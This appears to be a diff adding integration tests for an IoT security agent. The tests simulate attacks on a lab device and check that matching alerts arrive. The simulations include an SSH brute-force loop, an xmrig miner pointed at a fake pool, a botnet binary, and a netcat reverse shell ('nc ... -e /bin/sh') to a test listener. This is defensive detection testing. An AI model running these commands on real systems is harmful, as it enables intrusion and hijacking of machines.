@@ -1,0 +1,224 @@
+"""The integration scenarios, written against a Testbed (testbed.py): the
+device is only ever reached through `run(cmd)`, SSH and the guest-visible
+addresses of host services, so the same functions run on a QEMU guest, a
+labgrid board or from the layer's oeqa runtime tests.
+
+Each function performs the attack or change and returns once the hub shows
+the expected result; it raises AssertionError saying what was awaited and
+what arrived otherwise."""
+
+from __future__ import annotations
+
+import secrets
+import time
+from typing import Dict, List
+
+from defender_iot.image.target import check, wait_for
+from testbed import MODULE, Testbed, alerts, events
+
+
+def payload(e: dict) -> dict:
+    return (e.get("Payload") or [{}])[0]
+
+
+def evidence(e: dict) -> dict:
+    return payload(e).get("Evidence") or {}
+
+
+def evidence_mentions(e: dict, text: str) -> bool:
+    import json
+    return text in json.dumps(evidence(e))
+
+
+# ---- connection, periodic events, posture -------------------------------
+
+def connects_and_reports(bed: Testbed, timeout: float = 180) -> Dict[str, dict]:
+    hb = bed.wait_event("Heartbeat", timeout=timeout)
+    si = bed.wait_event("SystemInformation", timeout=timeout)
+    info = payload(si)
+    status, uname = bed.run("uname -r")
+    assert info.get("KernelRelease") == uname.strip(), f"SystemInformation {info} does not match uname -r {uname!r}"
+    twin = wait_for("the module twin's reported configuration",
+                    lambda: _reported_state(bed), timeout=60, interval=2)
+    assert twin.get("latest_state") == "success", f"reported properties: {twin}"
+    return {"Heartbeat": hb, "SystemInformation": si}
+
+
+def _reported_state(bed: Testbed):
+    rep = bed.hub.client.get_twin(bed.device, MODULE)["properties"]["reported"]
+    return bool(rep.get("latest_state")), rep
+
+
+def baseline_results(bed: Testbed, after: float = 0, timeout: float = 120) -> Dict[str, str]:
+    """Check id -> Result from the newest Baseline event whose timestamp is
+    after `after` (epoch seconds)."""
+    def probe():
+        evs = [e for e in events(bed.bodies(), "Baseline") if _epoch(e.get("TimestampUTC", "")) > after]
+        if not evs:
+            return False, f"{len(events(bed.bodies(), 'Baseline'))} Baseline events, none after {after}"
+        return True, {p["Id"]: p["Result"] for p in evs[-1]["Payload"]}
+    return wait_for("a Baseline (posture) event", probe, timeout, interval=2)
+
+
+def _epoch(ts: str) -> float:
+    import calendar
+    try:
+        return calendar.timegm(time.strptime(ts, "%Y-%m-%dT%H:%M:%SZ"))
+    except ValueError:
+        return 0
+
+
+# sysctl checks that fail on the image as built (Linux defaults) and that
+# hardening at runtime fixes.
+HARDENING = {
+    "DIOT-NET-009": "sysctl -w net.ipv4.conf.all.accept_redirects=0",
+    "DIOT-NET-010": "sysctl -w net.ipv4.conf.default.accept_redirects=0",
+}
+
+
+def posture_then_hardening(bed: Testbed) -> Dict[str, str]:
+    before = baseline_results(bed)
+    failing = {i for i, r in before.items() if r == "Fail"}
+    assert set(HARDENING) <= failing, f"expected {sorted(HARDENING)} to fail on the image as built; failing: {sorted(failing)}"
+    status, out = bed.run("date +%s")
+    now = float(out.strip())
+    for cmd in HARDENING.values():
+        check(bed.target, cmd)
+    after = baseline_results(bed, after=now + 1, timeout=180)
+    not_fixed = {i: after.get(i) for i in HARDENING if after.get(i) != "Pass"}
+    assert not not_fixed, f"after hardening, still not Pass: {not_fixed}"
+    return after
+
+
+# ---- attacks ---------------------------------------------------------------
+
+def brute_force(bed: Testbed, attempts: int = 8) -> List[dict]:
+    """Wrong SSH passwords from the host, then the right one."""
+    import paramiko
+
+    def attempt(password: str) -> bool:
+        c = paramiko.SSHClient()
+        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+        try:
+            c.connect(bed.ssh[0], bed.ssh[1], username="root", password=password, timeout=30, banner_timeout=60,
+                      auth_timeout=30, allow_agent=False, look_for_keys=False)
+            return True
+        except paramiko.AuthenticationException:
+            return False
+        finally:
+            c.close()
+
+    wait_for("the device's SSH server", lambda: (_ssh_banner(bed), None), timeout=120, interval=2)
+    for i in range(attempts):
+        assert not attempt(f"wrong-{i}"), "a wrong password was accepted"
+    bf = bed.wait_event("BruteForce", alert=True, timeout=120)
+    assert attempt(bed.root_password), "the right password was refused"
+    ok = bed.wait_event("BruteForceSuccess", alert=True, timeout=120)
+    for e in (bf, ok):
+        assert evidence_mentions(e, "10.0.2.2") or evidence_mentions(e, bed.ssh[0]), \
+            f"{e['Name']} evidence does not name the source address: {evidence(e)}"
+    return [bf, ok]
+
+
+def _ssh_banner(bed: Testbed) -> bool:
+    import socket
+    try:
+        with socket.create_connection(bed.ssh, timeout=10) as s:
+            s.settimeout(20)
+            return s.recv(64).startswith(b"SSH-")
+    except OSError:
+        return False
+
+
+def crypto_miner(bed: Testbed) -> dict:
+    pool = f"stratum+tcp://{bed.pool_address[0]}:{bed.pool_address[1]}"
+    check(bed.target, f"cp {bed.payload_dir}/xmrig /tmp/xmrig && "
+                      f"(/tmp/xmrig -o {pool} -u 44AFFq5kSiGBoZ -p x >/dev/null 2>&1 &)")
+    wait_for("the miner's mining.subscribe at the fake pool", lambda: ("mining.subscribe" in bed.pool.methods(),
+             bed.pool.methods()), timeout=60)
+    status, pid = bed.run("pidof xmrig")
+    alert = bed.wait_event("CryptoMiner", alert=True, timeout=180)
+    assert evidence_mentions(alert, pid.split()[0]) if pid.strip() else True, \
+        f"CryptoMiner evidence does not name pid {pid!r}: {evidence(alert)}"
+    assert evidence_mentions(alert, str(bed.pool_address[1])), f"no pool port in {evidence(alert)}"
+    bed.run("killall xmrig; rm -f /tmp/xmrig")
+    return alert
+
+
+def botnet(bed: Testbed) -> dict:
+    name = secrets.token_hex(4)
+    check(bed.target, f"cp {bed.payload_dir}/botnet /tmp/{name} && (/tmp/{name} 240 >/dev/null 2>&1 &) "
+                      f"&& sleep 1 && rm /tmp/{name}")
+    alert = bed.wait_event("Botnet", alert=True, timeout=180)
+    assert evidence(alert), f"Botnet alert without indicators: {alert}"
+    bed.run(f"killall {name}")
+    return alert
+
+
+def reverse_shell(bed: Testbed) -> dict:
+    ip, port = bed.listener_address
+    check(bed.target, f"(nc {ip} {port} -e /bin/sh >/dev/null 2>&1 &)")
+    bed.listener.accept(timeout=60)
+    token = secrets.token_hex(4)
+    got = bed.listener.command(f"echo shell-{token}", f"shell-{token}")
+    assert f"shell-{token}" in got, f"the reverse shell did not answer: {got!r}"
+    alert = bed.wait_event("ReverseShell", alert=True, timeout=180)
+    bed.listener.command("exit", "")
+    return alert
+
+
+def unexpected_listening_port(bed: Testbed, port: int = 31337) -> dict:
+    check(bed.target, f"(nc -l -p {port} >/dev/null 2>&1 &)")
+    alert = bed.wait_event("UnexpectedListeningPort", alert=True, timeout=180,
+                           where=lambda e: evidence_mentions(e, str(port)))
+    bed.run(f"pkill -f 'nc -l -p {port}' || kill $(pidof nc)")
+    return alert
+
+
+# ---- twin and outage -------------------------------------------------------
+
+def twin_disables_a_collector(bed: Testbed, interval: float = 6) -> None:
+    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_Disabled": True})
+    wait_for("Heartbeat_Disabled=true in the reported configuration",
+             lambda: (_reported_state(bed)[1].get("configuration", {}).get("Heartbeat_Disabled") is True,
+                      _reported_state(bed)[1]), timeout=60)
+    time.sleep(interval + 2)          # a message built before the patch may still be in flight
+    before = len(events(bed.bodies(), "Heartbeat"))
+    time.sleep(3 * interval)
+    after = len(events(bed.bodies(), "Heartbeat"))
+    assert after == before, f"{after - before} Heartbeat events arrived after Heartbeat_Disabled"
+
+    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_Disabled": False,
+                                                    "Heartbeat_MessageFrequency": "Sometimes"})
+    rep = wait_for("latest_state failed with the bad key", lambda: (
+        _reported_state(bed)[1].get("latest_state") == "failed", _reported_state(bed)[1]), timeout=60)
+    assert "Heartbeat_MessageFrequency" in (rep.get("latest_invalid_fields") or []), rep
+    # The whole bad patch was refused: the collector is still off.
+    assert rep["configuration"]["Heartbeat_Disabled"] is True, rep
+    bed.hub.client.set_desired(bed.device, MODULE, {"Heartbeat_Disabled": False,
+                                                    "Heartbeat_MessageFrequency": "High"})
+    n = len(events(bed.bodies(), "Heartbeat"))
+    wait_for("Heartbeat events again after re-enabling", lambda: (len(events(bed.bodies(), "Heartbeat")) > n,
+             len(events(bed.bodies(), "Heartbeat"))), timeout=90)
+
+
+def outage(bed: Testbed, seconds: float = 60, markers: int = 5) -> None:
+    """The hub is down for `seconds`; events produced meanwhile (processes
+    started with unique command lines, heartbeats) all arrive afterwards."""
+    assert bed.restart_hub is not None, "this testbed cannot stop its hub"
+    token = secrets.token_hex(3)
+    tags = [f"outage-{token}-{i}" for i in range(markers)]
+
+    def during() -> None:
+        for i, tag in enumerate(tags):
+            check(bed.target, f"sh -c ': {tag}; sleep 2'")
+            time.sleep(seconds / (markers + 1))
+    bed.restart_hub(seconds, during)
+
+    def probe():
+        lines = " ".join(str(p.get("CommandLine", "")) for e in events(bed.bodies(), "Process")
+                         for p in e.get("Payload", []))
+        missing = [t for t in tags if t not in lines]
+        return not missing, f"missing {missing}"
+    wait_for(f"the {markers} processes started during the outage to arrive as Process events", probe,
+             timeout=240, interval=3)
